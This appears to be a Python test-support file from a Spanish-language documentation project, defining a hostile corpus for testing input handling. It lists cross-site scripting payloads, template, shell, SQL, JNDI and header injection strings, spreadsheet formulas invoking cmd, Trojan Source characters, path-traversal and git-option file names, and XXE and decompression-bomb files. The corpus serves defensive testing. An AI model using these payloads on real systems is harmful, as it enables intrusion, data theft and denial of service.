"""The hostile corpus: texts, names and files, each with a name of its own, that every entry is tried with."""

from __future__ import annotations

import io
import zipfile

from tests.support import sent

_HIT = "window.__hit=1"

#: markup that would run in a browser if a page took it as it came
MARKUP: dict[str, str] = {
    "script": f"<script>{_HIT}</script>",
    "script of the title": f"</title><script>{_HIT}</script>",
    "script of a field": f"</textarea><script>{_HIT}</script>",
    "script of an attribute": f'"><script>{_HIT}</script>',
    "script of an attribute in quotes": f"'><script>{_HIT}</script>",
    "script in capitals": f"<ScRiPt>{_HIT}</sCrIpT>",
    "script never closed": f"<script>{_HIT}//",
    "script with a slash": f"<script/x>{_HIT}</script>",
    "script inside script": f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    "script in a comment": f"<!--><script>{_HIT}</script>-->",
    "script in CDATA": f"<![CDATA[<script>{_HIT}</script>]]>",
    "script as a processing instruction": f"<?php <script>{_HIT}</script> ?>",
    "script from elsewhere": "<script src=//hostile.example/x.js></script>",
    "module": f"<script type=module>{_HIT}</script>",
    "import map": '<script type="importmap">{"imports":{"x":"data:text/javascript,window.__hit=1"}}</script>',
    "picture that fails": f"<img src=x onerror={_HIT}>",
    "picture that fails, in quotes": f'<img src="x" onerror="{_HIT}">',
    "picture with a line in its handler": f'<img src=x\nonerror\n=\n"{_HIT}">',
    "picture with a slash": f"<img/src=x/onerror={_HIT}>",
    "picture with NUL": f"<img src=x onerror\0={_HIT}>",
    "picture in Markdown with a handler": f'![x](x "onerror={_HIT}")',
    "picture whose words end the attribute": f'![" onerror="{_HIT}](x)',
    "drawing": f"<svg onload={_HIT}>",
    "drawing with a script": f"<svg><script>{_HIT}</script></svg>",
    "drawing with animation": f"<svg><animate onbegin={_HIT} attributeName=x dur=1s></svg>",
    "drawing with a page": f"<svg><foreignObject><iframe srcdoc='<script>{_HIT}</script>'></foreignObject></svg>",
    "drawing that takes another": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__hit=1>#x'></use></svg>",
    "formula": f"<math><mtext></form><form><mglyph><style></math><img src onerror={_HIT}>",
    "namespaces confused": f"<svg></p><style><a id='</style><img src=1 onerror={_HIT}>'>",
    "template": f"<template><script>{_HIT}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    "body": f"<body onload={_HIT} onpageshow={_HIT}>",
    "details": f"<details open ontoggle={_HIT}>",
    "input": f"<input autofocus onfocus={_HIT}>",
    "marquee": f"<marquee onstart={_HIT}>",
    "video": f"<video><source onerror={_HIT}></video>",
    "custom element": f"<x-a tabindex=1 onfocus={_HIT} autofocus>",
    "iframe": f'<iframe src="javascript:parent.{_HIT}"></iframe>',
    "iframe with a page": f"<iframe srcdoc='&lt;script&gt;parent.{_HIT}&lt;/script&gt;'></iframe>",
    "object": '<object data="data:text/html,<script>parent.window.__hit=1</script>"></object>',
    "embed": '<embed src="javascript:window.__hit=1">',
    "base": '<base href="//hostile.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__hit=1">',
    "stylesheet": '<link rel=stylesheet href="//hostile.example/x.css">',
    "style": "<style>@import '//hostile.example/x.css';*{display:none}</style>",
    "style of an element": '<p style="position:fixed;inset:0;background:url(//hostile.example/x)">x</p>',
    "form of another": '<form action="//hostile.example/"><input name=password><button>Entrar</button></form>',
    "button that leads elsewhere": '<button form=vote formaction="//hostile.example/">x</button>',
    "names over ours": '<img name="csrf_token"><a id="body"></a><form id="vote"></form>',
    "controller of ours": '<div data-controller="confirm" data-confirm-text="x">x</div>',
    "link that runs": f"[x](javascript:{_HIT})",
    "link that runs, in capitals": f"[x](JaVaScRiPt:{_HIT})",
    "link that runs, with a line": f"[x](java\nscript:{_HIT})",
    "link that runs, with an entity": f"[x](javascript&colon;{_HIT})",
    "link that runs, with numbers": f"[x](&#106;&#97;&#118;&#97;&#115;cript:{_HIT})",
    "link that runs, with a tab": f"[x](java&Tab;script:{_HIT})",
    "link that runs, percent": f"[x](%6A%61%76%61script:{_HIT})",
    "link that runs, with a blank before": f"[x](<\x01javascript:{_HIT}>)",
    "link that runs, by reference": f"[x]\n\n[x]: javascript:{_HIT}",
    "link that runs, as itself": f"<javascript:{_HIT}>",
    "link with data": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==)",
    "picture with data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX2hpdD0xIi8+)",
    "link of VBScript": "[x](vbscript:msgbox)",
    "link to a file": "[x](file:///etc/passwd) ![x](file:///etc/passwd)",
    "link without a protocol": "[x](//hostile.example/x) ![x](//hostile.example/x)",
    "link whose title ends the attribute": f"[x](y \"' onmouseover='{_HIT}\")",
    "link whose target ends the attribute": f'[x](<y" onmouseover="{_HIT}>)',
    "link in a link": f"[a [b](javascript:{_HIT})](javascript:{_HIT})",
    "picture in a link": f'[![x](x"onerror="{_HIT})](javascript:{_HIT})',
    "address with a handler": f'<https://a.b/" onmouseover="{_HIT}>',
    "heading with markup": f'# <img src=x onerror={_HIT}>\n\n## "><script>{_HIT}</script>',
    "table with markup": f"| a |\n|---|\n| <img src=x onerror={_HIT}> |",
    "code whose language ends the attribute": f'```" onmouseover="{_HIT}\nx\n```',
    "box whose title has markup": f"::: nota <img src=x onerror={_HIT}>\nx\n:::",
    "question with markup": f":::: pregunta\n<script>{_HIT}</script>\n\n::: respuesta\n<img src=x onerror={_HIT}>\n:::",
    "note with markup": f"x[^1]\n\n[^1]: <img src=x onerror={_HIT}>",
    "note whose name ends the attribute": f'x[^"onmouseover="{_HIT}]\n\n[^"onmouseover="{_HIT}]: y',
    "front matter with markup": f'---\ntitle: "<script>{_HIT}</script>"\nlang: "es\\" onload=\\"{_HIT}"\n---\n\nx',
    "HTML entities of a script": f"&lt;script&gt;{_HIT}&lt;/script&gt; &#60;script&#62;",
    "seam of the sanitiser": f'<section class="piece"></section><script>{_HIT}</script>',
    "our marks": f'<ins data-diff="ins" onclick={_HIT}>x</ins><del>y</del>',
    "UTF-7": "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
    "wide letters": "\uff1cscript\uff1ewindow.__hit=1\uff1c/script\uff1e",
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__hit=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__hit=1//>\\x3e"
    ),
}
#: what a template, a log, a header, a spreadsheet or a format would take for its own
LINES: dict[str, str] = {
    "Jinja": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "Jinja's comment": "{# x #} {{ config.SECRET_KEY }}",
    "format with names": "%(number)s %(name)s %(secret)d",
    "format with percent": "100 % de s y %s %n %x %1000000000d",
    "braces": "{0.__class__.__init__.__globals__} {secret!r:>1000000000}",
    "shell": "$(touch /tmp/hit) `touch /tmp/hit`; touch /tmp/hit | x && y",
    "SQL": "'; DROP TABLE person; -- \" OR 1=1",
    "wildcards of SQL": "%%__%%\\",
    "lookup of a log": "${jndi:ldap://hostile.example/x}",
    "header": "Hola\r\nBcc: todos@hostile.example\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
    "header with a line feed": "Hola\nBcc: todos@hostile.example",
    "header with a vertical line": "Hola\u2028Bcc: todos@hostile.example\x0bX: y\x85Z: w",
    "header encoded": "=?utf-8?q?Hola=0D=0ABcc:_todos@hostile.example?=",
    "trailers": "Aclarar\n\nApproved-by: Perú <x@example.org>\nRecord: refs/x",
    "end of a message": "---\nx\n# ------------------------ >8 ------------------------\ny",
    "formula": '=HYPERLINK("http://hostile.example/?"&A1;"x")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\n=1+1",
    "wide formula": "\uff1d1+1",
    "formula in a second cell": "a;=1+1\n=2+2",
    "DDE": '=DDE("cmd";"/C calc";"x")',
    "mention of everybody": "@" * 500 + " @Rosa Quispe" * 200,
}
#: letters that deceive
LETTERS: dict[str, str] = {
    "override to the left": "precio \u202eodagap\u202c realmente",
    "override to the right": "\u202dabc",
    "embedding": "\u202aabc \u202bdef",
    "isolates never closed": "if admin \u2066\u2067\u2068 {",
    "Trojan Source": "/*\u202e } \u2066if (esAdmin)\u2069 \u2066 comienza */",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "blanks of no width": "va\u200blor y va\u2060lor y va\ufefflor",
    "joiners": "va\u200dlor y va\u200clor",
    "letters of tags": "valor" + "".join(chr(0xE0000 + ord(c)) for c in "hola"),
    "invisible operators": "valor\u2062\u2063\u2064",
    "Cyrillic among Latin": "v\u0430l\u043er en \u0430du\u0430na",
    "Greek among Latin": "v\u03b1l\u03bfr",
    "wide letters": "\uff56\uff41\uff4c\uff4f\uff52",
    "mathematical letters": "\U0001d42f\U0001d41a\U0001d425\U0001d428\U0001d42b",
    "many marks": "Z" + "\u0300\u0316" * 300,
    "controls": "a\x01b\x07c\x08d\x0ce\x1b[2Jf\x7fg\x9bh",
    "half a pair, repaired": "a\ufffdb",
    "not a character": "a\ufffe\uffffb",
    "private letters": "\ue000\uf8ff",
    "lines of other kinds": "a\u2028b\u2029c\x85d\x0be",
}
#: texts that a careless reader takes for ever over
LARGE: dict[str, str] = {
    "emphasis never closed": "*a _b " * 4000,
    "emphasis of stars": "*" * 12_000 + "a" + "*" * 12_000,
    "brackets": "[" * 12_000,
    "brackets closed": "[a](" * 5000,
    "pictures": "![" * 8000 + "](x)",
    "quotations": ">" * 8000 + "a",
    "lists": "".join(" " * (2 * n) + "- a\n" for n in range(400)),
    "codes": "`" * 3000 + "a" + "".join("`" * n + " " for n in range(300)),
    "entities": "&" * 20_000 + "#x" * 5000,
    "references": "".join(f"[{n}]: /x\n" for n in range(4000)) + "[1]" * 4000,
    "notes": "".join(f"x[^{n}] " for n in range(1500)) + "\n\n" + "".join(f"[^{n}]: y\n\n" for n in range(1500)),
    "note in a note": "[^1]\n\n[^1]: a[^1] b[^2]\n\n[^2]: c[^1]",
    "a wide table": "|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n|" + "b|" * 3000,
    "a table of many rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 4000,
    "headings alike": "# a\n\n" * 3000,
    "boxes in boxes": "".join(":" * (300 - n) + " nota\n" for n in range(297)),
    "front matter never closed": "---\n" + "a: b\n" * 20_000,
    "addresses": "<" * 20_000 + "https://" * 2000,
    "a long word": "a" * 200_000,
    "words alike": "a b " * 20_000,
    "lines of blanks": (" " * 300 + "\n") * 500,
    "comments never closed": "<!--" * 10_000,
    "tags never closed": "<a " * 10_000,
    "strikes": "~~a " * 6000,
    "mails": "a@" * 10_000,
}
TEXTS: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, texts in (("markup", MARKUP), ("line", LINES), ("letters", LETTERS))
    for name, text in texts.items()
}
#: names of files and documents that lead elsewhere, or that Git, a shell or a system takes for its own
NAMES: dict[str, str] = {
    "up": "../../../etc/passwd",
    "up, backwards": "..\\..\\windows\\win.ini",
    "up, percent": "%2e%2e/%2e%2e/x.md",
    "up, in the middle": "glosario/../../x.md",
    "absolute": "/etc/passwd",
    "a drive": "C:\\x.md",
    "a share": "\\\\hostile.example\\x.md",
    "a stream": "x.md::$DATA",
    "NUL": "x.md\0.html",
    "a line": "x\r\nSet-Cookie: a=b\r\n.md",
    "option of git": "--upload-pack=touch /tmp/hit",
    "option of output": "--output=/tmp/hit",
    "short option": "-c core.sshCommand=x",
    "pathspec": ":(exclude)*.md",
    "pathspec at the top": ":/x.md",
    "revision": "HEAD:glosario/glosario.md",
    "range": "a..b",
    "reflog": "@{1}.md",
    "wildcard": "*.md",
    "dot git": ".git/config",
    "dot git, capitals": ".GIT/config",
    "dot git, mixed": ".gIt/hooks/post-update",
    "dot git, short name": "git~1/config",
    "dot git, with a blank of no width": ".g\u200cit/config",
    "dot git, with a joiner": ".gi\u200dt/config",
    "dot git, with a mark": "\u200f.git/config",
    "dot git, a stream": ".git::$INDEX_ALLOCATION/config",
    "dot git, with a dot": ".git./config",
    "dot git, with a blank": ".git /config",
    "dot git, below": "glosario/.git/config",
    "modules of git": ".gitmodules",
    "attributes of git": ".gitattributes",
    "modules, short name": "gi7eba~1",
    "markup": "<img src=x onerror=window.__hit=1>.md",
    "quotes": "a\"b'c`d.md",
    "direction": "informe\u202efdp.exe",
    "device": "CON.md",
    "device with number": "COM1",
    "dots": "...",
    "blank": " ",
    "hidden": ".bashrc",
    "long": "x" * 300 + ".md",
    "deep": "a/" * 200 + "x.md",
    "formula": "=cmd|x.md",
    "composed otherwise": "glosario/glosario.md\u0301",
    "another's capitals": "GLOSARIO/Glosario.md",
    "template": "{{7*7}}.md",
    "home": "~root/x.md",
    "variable": "$HOME/x.md",
    "lock": "glosario/glosario.md.lock",
}


def _archive(parts: dict[str, bytes], main: str = sent.DOCX_MAIN) -> bytes:
    """A Word file with parts in place of those it has."""
    plain = zipfile.ZipFile(io.BytesIO(sent.office(main)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in ({name: plain.read(name) for name in plain.namelist()} | parts).items():
            archive.writestr(name, data)
    return out.getvalue()


def _billion() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a9;</x>'.encode()


_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def _plain_zip(mimetype: str, parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype)
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


#: files that no entry may take as they come, nor take long over
FILES: dict[str, bytes] = {
    **sent.HOSTILE,
    "a Word file with entities in its text": _archive({"word/document.xml": _billion()}),
    "a Word file with a file of the machine": _archive({"word/document.xml": _OUTSIDE}),
    "a Word file of many parts": _archive({f"word/media/{n}.png": b"x" for n in range(3000)}),
    "a Word file whose text inflates": _archive({"word/document.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}),
    "a Word file nested deeply": _archive({"word/document.xml": b"<a>" * 100_000 + b"</a>" * 100_000}),
    "an Excel file whose sheet inflates": sent.office(sent.XLSX_MAIN, {"xl/worksheets/sheet1.xml": bytes(60_000_000)}),
    "a text file of OpenDocument that inflates": _plain_zip(
        "application/vnd.oasis.opendocument.text", {"content.xml": bytes(60_000_000)}
    ),
    "slides that inflate": sent.office(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        {"ppt/slides/slide1.xml": bytes(60_000_000)},
    ),
    "a drawing with entities": _billion()
    .replace(b"<x>", b'<svg xmlns="http://www.w3.org/2000/svg">')
    .replace(b"</x>", b"</svg>"),
    "a drawing with a file of the machine": sent.drawing(
        "<text>&e;</text>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    ),
    "a JPEG that says it is huge": sent.picture("JPEG").replace(b"\x00\x28\x00\x3c", b"\xff\xff\xff\xff"),
    "a GIF that says it is huge": b"GIF89a\xff\xff\xff\xff" + sent.picture("GIF")[10:],
    "a WEBP cut short": sent.picture("WEBP")[:-20],
    "a PNG cut into its size": sent.png_of(2**31 - 1, 1),
    "a PDF that is a page": b"%PDF-1.4\n<script>window.__hit=1</script>\n%%EOF\n",
    "rules that nest": b"a = " + b"[" * 20_000,
    "rules with a long key": b".".join([b"a"] * 20_000) + b" = 1\n",
    "rules with a figure without end": b"a = " + b"9" * 5000,
    "rules in another code": 'unidad = "año"'.encode("utf-16"),
    "text of nothing but NUL": bytes(100_000),
}
RULES = {name: data for name, data in FILES.items() if name.startswith("rules")}
COUNT = len(TEXTS) + len(LARGE) + len(NAMES) + len(FILES)
